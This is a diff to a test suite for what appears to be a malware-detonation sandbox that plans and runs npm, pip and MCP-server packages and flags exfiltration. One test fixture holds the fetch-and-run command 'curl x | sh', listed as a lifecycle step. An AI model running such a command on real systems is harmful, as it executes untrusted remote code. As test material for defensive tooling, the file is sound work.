@@ -15,7 +15,7 @@ from assay.detonate.mapping import (
     secret_read_capability,
     write_capability,
 )
-from assay.detonate.plan import NODE, PYTHON, SH, build_plan
+from assay.detonate.plan import NODE, PYTHON, SH, build_plan, go_toolchain
 from assay.mechanism.spec import Track
 from assay.mechanism.taxonomy import CAPABILITIES
 from assay.sandbox.interface import Peer, TraceSummary
@@ -185,7 +185,7 @@ def test_npm_plan_runs_lifecycle_scripts_then_require(tmp_path: Path) -> None:
     assert argvs[0] == (NODE, "pre.js")
     assert argvs[1] == (SH, "-c", "curl x | sh")
     assert argvs[2][:2] == (NODE, "-e") and len(argvs) == 3
-    assert plan.copies == ("/task/workspace/.assay-t0k3n/node_modules/p",)
+    assert plan.copies == ("/task/workspace/.cache-t0k3n/node_modules/p",)
 
 
 def test_pip_plan_installs_with_setuptools_then_imports(tmp_path: Path) -> None:
@@ -193,8 +193,8 @@ def test_pip_plan_installs_with_setuptools_then_imports(tmp_path: Path) -> None:
     plan = build_plan(tmp_path, Track.PACKAGES, "t0k3n")
     install, load = plan.core
     assert install.argv[:3] == (PYTHON, "-c", "from setuptools import setup; setup()")
-    assert "install" in install.argv and install.cwd == "/task/workspace/.assay-t0k3n/src"
-    assert load.argv[-1] == "/task/workspace/.assay-t0k3n/site"
+    assert "install" in install.argv and install.cwd == "/task/workspace/.cache-t0k3n/src"
+    assert load.argv[-1] == "/task/workspace/.cache-t0k3n/site"
 
 
 def test_mcp_plan_reads_both_manifest_shapes(tmp_path: Path) -> None:
@@ -203,9 +203,48 @@ def test_mcp_plan_reads_both_manifest_shapes(tmp_path: Path) -> None:
         '{"mcpServers": {"a": {"command": "node", "args": ["srv.js", "--stdio"],'
         ' "env": {"K": "v"}}}}'
     )
-    (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
-    assert step.argv == (NODE, "/task/artifact/srv.js", "--stdio")
+    plan = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n")
+    (step,) = plan.core
+    assert step.argv == (NODE, f"{SERVER_COPY}/srv.js", "--stdio")
     assert step.env == (("K", "v"),) and step.kind == "mcp"
+    assert plan.copies == (SERVER_COPY,) and step.cwd == SERVER_COPY
+
+
+SERVER_COPY = "/task/workspace/.cache-t0k3n/server"
+
+
+def test_typescript_server_runs_its_source_when_the_build_was_not_shipped(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "src").mkdir()
+    (tmp_path / "src" / "index.ts").write_text("")
+    (tmp_path / "package.json").write_text('{"name": "s", "bin": {"s": "dist/index.js"}}')
+    (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
+    assert step.argv[0] == NODE and step.argv[-1] == f"{SERVER_COPY}/src/index.ts"
+    assert "--experimental-strip-types" in step.argv or "--import" in step.argv
+
+
+def test_go_server_with_unshipped_modules_is_named_not_silently_empty(tmp_path: Path) -> None:
+    (tmp_path / "main.go").write_text("package main\n")
+    (tmp_path / "go.mod").write_text(
+        "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/mark3labs/mcp-go v0.30.0\n"
+        "\tgolang.org/x/text v0.3.0 // indirect\n)\n"
+    )
+    plan = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n")
+    assert plan.core == ()
+    (reason,) = plan.interference
+    if go_toolchain() is None:
+        assert reason == "Go server not run: the Go toolchain is not installed"
+    else:
+        assert reason == (
+            "Go server not built: needs modules github.com/mark3labs/mcp-go, golang.org/x/text"
+        )
+
+
+def test_unknown_mcp_server_is_interference_not_an_empty_result(tmp_path: Path) -> None:
+    (tmp_path / "README.md").write_text("# nothing to run\n")
+    plan = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n")
+    assert plan.core == () and plan.interference == ("no MCP server command found",)
 
 
 def test_a_network_tool_uploading_a_canary_file_is_exfiltration() -> None:
@@ -261,3 +300,11 @@ def test_a_secret_piped_into_a_shell_network_command_is_exfiltration() -> None:
     assert "EXFILTRATE_DATA" not in {
         e.capability for e in map_trace(TraceSummary(execs=(local,)), WHO)
     }
+
+
+def test_python_module_servers_run_from_their_copy(tmp_path: Path) -> None:
+    (tmp_path / "notes_server").mkdir()
+    (tmp_path / "notes_server" / "__main__.py").write_text("")
+    (tmp_path / "mcp.json").write_text('{"command": "python3", "args": ["-m", "notes_server"]}')
+    (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
+    assert step.argv == (PYTHON, "-m", "notes_server") and step.cwd == SERVER_COPY
